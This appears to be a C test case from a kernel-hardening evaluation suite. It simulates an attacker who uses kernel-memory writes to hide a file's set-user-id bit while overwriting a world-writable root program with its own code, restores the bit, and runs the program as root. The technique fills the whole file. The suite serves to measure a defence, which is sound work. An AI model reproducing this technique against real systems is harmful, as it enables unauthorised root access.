// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

#include <asm/stat.h>
#include <linux/stat.h>

ATTACK("cred_integrity", "set_user_bit_kept", "LOST",
       "Root has a program with the set-user-id bit that everybody may write to. The program hides "
       "the bit, writes code of its own there, and executes it.",
       "Whether a write takes the set-user-id bit away is asked of the sealed mode.",
       "What it executes is root.");

#define PROGRAM "/kept/program"
#define OTHER "/kept/other"
#define WITH_BIT 0104777
#define WITHOUT_BIT 0100777

static bool has_bit(long file)
{
	struct stat status = { 0 };

	return call2(__NR_fstat, file, (long)&status) == 0 && (status.st_mode & S_ISUID) != 0;
}

/* A write by somebody else takes the bit away. */
static bool control(void)
{
	const long other = call3(__NR_open, (long)OTHER, O_WRONLY, 0);

	return is_ordinary() && has_bit(other) && call3(__NR_write, other, (long)"X", 1) == 1 &&
	       !has_bit(other);
}

static bool fire(void)
{
	static const char *const arguments[] = { "other", NULL }, *const environment[] = { NULL };
	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
	const long to = call3(__NR_open, (long)PROGRAM, O_WRONLY, 0);
	const uint64_t inode = peek(file_struct(own_task(), (int)to) + member("file.inode"));
	long child;

	poke32(inode + member("inode.mode"), WITHOUT_BIT);
	call4(__NR_sendfile, to, from, 0, 1 << 20);
	call1(__NR_close, to);
	poke32(inode + member("inode.mode"), WITH_BIT);
	child = fork_program();
	if (child == 0) {
		call3(__NR_execve, (long)PROGRAM, (long)arguments, (long)environment);
		leave(1);
	}
	return wait_program(child) >> 8 == 77;
}

static void make_program(const char *name)
{
	call1(__NR_close, call3(__NR_open, (long)name, O_CREAT | O_WRONLY, 0777));
	call2(__NR_chmod, (long)name, WITH_BIT & 07777);
}

static void victim(void)
{
	call2(__NR_mkdir, (long)"/kept", 0755);
	make_program(PROGRAM);
	make_program(OTHER);
	victim_waits();
}
